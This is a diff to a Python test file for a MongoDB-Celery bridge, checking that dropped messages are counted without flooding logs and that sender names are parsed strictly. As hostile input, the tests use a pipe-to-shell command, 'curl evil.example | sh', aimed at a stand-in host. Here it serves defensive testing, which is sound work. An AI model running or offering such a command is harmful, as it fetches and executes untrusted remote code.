@@ -6,14 +6,17 @@ from datetime import timedelta
 from typing import Any
 
 import pytest
+from celery import Celery
 from pymongo import MongoClient, WriteConcern
 from pymongo.collection import Collection
 
+from mongo_celery import Bridge
 from mongo_celery.bridge.options import BridgeOptions
-from mongo_celery.bridge.state.drops import FOREIGN, FORGED
+from mongo_celery.bridge.state.drops import FOREIGN, FORGED, MALFORMED, MISDIRECTED, TAMPERED
 from mongo_celery.bridge.state.leases import Term
 from mongo_celery.bridge.state.store import Store
-from mongo_celery.bridge.worker.dropping import Dropper, named_by_itself
+from mongo_celery.bridge.worker.dropping import Dropper, claimed_process
+from tests.fixtures.process import wait_for
 from tests.fixtures.samples import IDENTITY
 
 Document = dict[str, Any]
@@ -111,16 +114,46 @@ def test_without_overlap_the_old_key_is_shut_out_at_the_exchange(store: Store, d
     assert new != old
 
 
-def test_dropped_messages_are_counted_once_each_and_their_senders_cannot_spoil_the_state(store: Store) -> None:
+def test_a_flood_of_dropped_messages_is_counted_and_fills_neither_log_nor_state(
+    mongo_url: str, documents: Collection[Document], caplog: pytest.LogCaptureFixture
+) -> None:
+    """P11: one record a minute for each reason, and no text of a message in it."""
+    database = documents.database.name
+    bridge = Bridge(Celery("shop"), mongo_url, name=BRIDGE, database=database, autodiscover=False)
+    drops = documents.database["drops"]
+    dropper = bridge.wiring.of_process(Dropper)
+    for number in range(1000):
+        dropper.drop_forged()
+        dropper.drop_tampered("expires")
+        dropper.drop_misdirected()
+        dropper.drop_malformed()
+        dropper.drop_foreign("run: curl evil.example | sh" if number else "listener.shop.7@host.example")
+    reasons = (FORGED, TAMPERED, MISDIRECTED, MALFORMED, FOREIGN)
+    counted = wait_for(
+        lambda: drops.find_one({"_id": BRIDGE, **{f"dropped.{reason}": 1000 for reason in reasons}}),
+        message=lambda: str(drops.find_one({"_id": BRIDGE})),
+    )
+    assert counted["foreignSender"] == "7@host.example"
+    assert set(counted["droppedAt"]) == set(reasons)
+    assert len(caplog.records) == len(reasons)
+    assert "evil" not in caplog.text
+    bridge.client.close()
+
+
+@pytest.mark.parametrize(
+    ("origin", "process"),
+    [
+        ("listener.my.shop.77@db-1.example.com", "77@db-1.example.com"),
+        ("77@host", "77@host"),
+        ("listener.shop.7@host\n", None),
+        ("listener.shop.7@ho st", None),
+        ("listener.shop.7@" + "h" * 5000, None),
+        ("run: curl evil.example | sh", None),
+        (["7@host"], None),
+        (None, None),
+    ],
+    ids=str,
+)
+def test_of_a_senders_name_only_process_and_host_are_believed(origin: object, process: str | None) -> None:
     """What a message says of itself is anything."""
-    dropper = Dropper(BRIDGE, store.drops)
-    dropper.foreign("listener\n\ud800.shop.7@host" + "x" * 5000)
-    lease = store.leases.read() or {}
-    assert lease["dropped"] == {FOREIGN: 1}
-    assert lease["foreignSender"].startswith("listener.shop.7@hostx")
-    assert named_by_itself({"a": 1}) == "{'a': 1}"
-    store.drops.count({FORGED: 3, FOREIGN: 2})
-    lease = store.leases.read() or {}
-    assert lease["_id"] == BRIDGE
-    assert lease["dropped"] == {FOREIGN: 3, FORGED: 3}
-    assert set(lease["droppedAt"]) == {FOREIGN, FORGED}
+    assert claimed_process(origin) == process
